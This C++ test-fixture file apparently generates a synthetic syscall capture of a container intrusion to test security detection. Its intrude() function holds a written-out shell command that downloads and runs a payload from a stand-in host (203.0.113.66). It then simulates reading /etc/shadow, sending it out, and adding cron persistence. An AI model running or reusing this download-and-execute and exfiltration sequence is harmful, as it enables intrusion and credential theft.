#include "testing/incident.h"

#include <string>

#include "testing/scenario.h"

namespace sfkit::testing {
namespace {

constexpr uint32_t kReadOnly = 1;
constexpr uint32_t kWriteOnly = 2;
constexpr uint32_t kCreate = 4;
constexpr int64_t kAtFdcwd = -100;
constexpr int64_t kDenied = -13;
constexpr uint64_t kSecond = 1'000'000'000;

constexpr const char* kContainerPath =
    "/docker/7d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c0a9be4427d1";
constexpr const char* kContainerJson =
    R"({"container":{"id":"7d1c0a9be442","type":0,"name":"shop-web","image":"shop/web","imagetag":"4.2",)"
    R"("imageid":"c0ffee","privileged":false,"is_pod_sandbox":false}})";

ProcessFacts nginx() {
  return {.exe = "/usr/sbin/nginx",
          .comm = "nginx",
          .args = {"-g", "daemon off;"},
          .env = {"LANG=C.UTF-8"},
          .tid = 1201,
          .pid = 1201,
          .ptid = 1200,
          .uid = 101,
          .gid = 101,
          .vtid = 7,
          .vpid = 7,
          .cgroup = kContainerPath};
}

ProcessFacts shell_of_ana() {
  return {.exe = "/usr/bin/bash",
          .comm = "bash",
          .args = {"-l"},
          .env = {"USER=ana"},
          .tid = 2000,
          .pid = 2000,
          .ptid = 900,
          .uid = 1000,
          .gid = 1000,
          .vtid = 2000,
          .vpid = 2000,
          .tty = 34816};
}

// A process before its exec: a copy of its parent with its own ids.
ProcessFacts child_of(const ProcessFacts& parent, int64_t pid) {
  ProcessFacts facts = parent;
  const int64_t distance = parent.pid - parent.vpid;
  facts.tid = facts.pid = pid;
  facts.vtid = facts.vpid = pid - distance;
  facts.ptid = parent.pid;
  return facts;
}

ProcessFacts with_program(ProcessFacts facts, const std::string& exe, std::vector<std::string> args) {
  facts.exe = exe;
  facts.comm = exe.substr(exe.rfind('/') + 1);
  facts.args = std::move(args);
  return facts;
}

// Forks, runs a program and returns the child's facts.
ProcessFacts run(Scenario& world, const ProcessFacts& parent, int64_t pid, const std::string& exe,
                 std::vector<std::string> args) {
  const ProcessFacts child = child_of(parent, pid);
  world.fork(parent, child);
  ProcessFacts program = with_program(child, exe, std::move(args));
  world.exec(program, 0);
  return program;
}

void write_lists(Scenario& world) {
  scap::CaptureWriter& out = world.writer();
  out.begin();
  scap::MachineInfo machine;
  machine.cpus = 2;
  machine.memory_bytes = uint64_t{4} << 30;
  machine.max_pid = 32768;
  machine.hostname = "shop-host";
  out.machine(machine);
  scap::InterfaceEntry ethernet;
  ethernet.address = ipv4(10, 0, 0, 7, 0).ip;
  ethernet.netmask = ipv4(255, 255, 255, 0, 0).ip;
  ethernet.name = "eth0";
  out.interfaces({ethernet});
  out.users({{0, 0, "root", "/root", "/bin/bash"},
             {101, 101, "nginx", "/nonexistent", "/usr/sbin/nologin"},
             {1000, 1000, "ana", "/home/ana", "/bin/bash"}},
            {{0, "root"}, {101, "nginx"}, {1000, "ana"}});

  const std::string cgroups = std::string("cpuset=") + kContainerPath + '\0';
  const std::string host_cgroups = std::string("cpuset=/") + '\0';
  const auto thread = [](int64_t pid, int64_t parent, std::string_view exe, std::string_view cwd,
                         uint32_t uid, int64_t vpid, std::string_view groups) {
    scap::ThreadEntry entry;
    entry.tid = entry.pid = pid;
    entry.ptid = parent;
    entry.sid = pid;
    entry.comm = exe.substr(exe.rfind('/') + 1);
    entry.exe = entry.exepath = exe;
    entry.cwd = cwd;
    entry.fdlimit = 1024;
    entry.uid = entry.gid = uid;
    entry.vtid = entry.vpid = vpid;
    entry.cgroups = groups;
    entry.root = "/";
    return entry;
  };
  out.processes({
      thread(1, 0, "/usr/lib/systemd/systemd", "/", 0, 1, host_cgroups),
      thread(900, 1, "/usr/sbin/sshd", "/", 0, 900, host_cgroups),
      thread(1200, 1, "/usr/sbin/nginx", "/", 0, 1, cgroups),
      thread(1201, 1200, "/usr/sbin/nginx", "/", 101, 7, cgroups),
      thread(1300, 1, "/usr/sbin/cron", "/", 0, 1300, host_cgroups),
      thread(2000, 900, "/usr/bin/bash", "/home/ana", 1000, 2000, host_cgroups),
  });
  scap::FdEntry listener;
  listener.fd = 6;
  listener.type = scap::FdType::kIpv4Server;
  listener.source_port = 8080;
  listener.l4 = scap::L4::kTcp;
  out.descriptors(1201, {listener});
}

// nginx serves a request.
void serve(Scenario& world, uint16_t port) {
  const Endpoint client = ipv4(10, 0, 0, 40, port);
  const Endpoint server = ipv4(10, 0, 0, 7, 8080);
  world.accept(1201, 12, client, server);
  world.recvfrom(1201, 12, 210, client, server);
  world.openat(1201, 13, kAtFdcwd, "/usr/share/nginx/html/index.html", kReadOnly);
  world.read(1201, 13, 1800);
  world.close(1201, 13);
  world.write(1201, 12, 2040);
  world.close(1201, 12);
  world.wait(kSecond);
}

// Ana looks around, and the nightly backup reads its usual files.
void act_harmlessly(Scenario& world) {
  const ProcessFacts make = run(world, shell_of_ana(), 2100, "/usr/bin/make", {"all"});
  world.openat(make.pid, 3, kAtFdcwd, "/tmp/make.log", kWriteOnly | kCreate);
  world.write(make.pid, 3, 300);
  world.close(make.pid, 3);
  world.exit(make.pid, 0);
  const ProcessFacts cat = run(world, shell_of_ana(), 2101, "/usr/bin/cat", {"/etc/cron.d/e2scrub_all"});
  world.openat(cat.pid, 3, kAtFdcwd, "/etc/cron.d/e2scrub_all", kReadOnly);
  world.read(cat.pid, 3, 188);
  world.exit(cat.pid, 0);
  ProcessFacts cron = shell_of_ana();
  cron = with_program(cron, "/usr/sbin/cron", {});
  cron.tid = cron.pid = cron.vtid = cron.vpid = 1300;
  cron.ptid = 1;
  cron.uid = cron.gid = 0;
  cron.tty = 0;
  const ProcessFacts backup = run(world, cron, 2102, "/usr/local/sbin/backup", {"--nightly"});
  world.openat(backup.pid, 3, kAtFdcwd, "/etc/shadow", kReadOnly);
  world.read(backup.pid, 3, 1280);
  world.exit(backup.pid, 0);
  world.wait(2 * kSecond);
}

// Sends one message to the attacker's machine over a new socket.
void call_home(Scenario& world, int64_t pid, uint16_t port, int64_t bytes) {
  const Endpoint here = ipv4(10, 0, 0, 7, port);
  const Endpoint there = ipv4(203, 0, 113, 66, 443);
  world.socket(pid, 4, false, false);
  world.connect(pid, 4, here, there, 0);
  world.sendto(pid, 4, bytes, here, there);
  world.close(pid, 4);
  world.wait(30 * kSecond);
}

void intrude(Scenario& world) {
  const ProcessFacts shell =
      run(world, nginx(), 3000, "/bin/sh",
          {"-c", "curl -so /tmp/.u http://203.0.113.66/u && chmod +x /tmp/.u && /tmp/.u"});
  const ProcessFacts curl =
      run(world, shell, 3001, "/usr/bin/curl", {"-so", "/tmp/.u", "http://203.0.113.66/u"});
  const Endpoint here = ipv4(10, 0, 0, 7, 50112);
  const Endpoint there = ipv4(203, 0, 113, 66, 80);
  world.socket(curl.pid, 3, false, false);
  world.connect(curl.pid, 3, here, there, 0);
  world.sendto(curl.pid, 3, 81, here, there);
  world.openat(curl.pid, 5, kAtFdcwd, "/tmp/.u", kWriteOnly | kCreate);
  for (int part = 0; part < 3; ++part) {
    world.recvfrom(curl.pid, 3, 65536, there, here);
    world.write(curl.pid, 5, 65536);
  }
  world.close(curl.pid, 5);
  world.exit(curl.pid, 0);
  const ProcessFacts chmod = run(world, shell, 3002, "/bin/chmod", {"+x", "/tmp/.u"});
  world.chmod(chmod.pid, "/tmp/.u", 0755);
  world.exit(chmod.pid, 0);

  ProcessFacts implant = run(world, shell, 3003, "/tmp/.u", {});
  world.openat(implant.pid, kDenied, kAtFdcwd, "/etc/shadow", kReadOnly);
  world.setuid(implant.pid, 0);
  world.openat(implant.pid, 3, kAtFdcwd, "/etc/shadow", kReadOnly);
  world.read(implant.pid, 3, 1280);
  world.close(implant.pid, 3);
  call_home(world, implant.pid, 50200, 1280);
  world.openat(implant.pid, 3, kAtFdcwd, "/etc/cron.d/updates", kWriteOnly | kCreate);
  world.write(implant.pid, 3, 54);
  world.close(implant.pid, 3);
  world.unlink(implant.pid, "/tmp/.u");
  for (uint16_t port = 50201; port < 50204; ++port) call_home(world, implant.pid, port, 48);
  world.exit(implant.pid, 0);
  world.exit(shell.pid, 0);
}

}  // namespace

std::vector<Fixture> incident_captures() {
  Scenario world(Age::k2026);
  write_lists(world);
  world.container(kContainerJson);
  for (uint16_t port = 41000; port < 41003; ++port) serve(world, port);
  act_harmlessly(world);
  intrude(world);
  serve(world, 41003);
  return {{"incident.scap", world.writer().bytes()}};
}

}  // namespace sfkit::testing
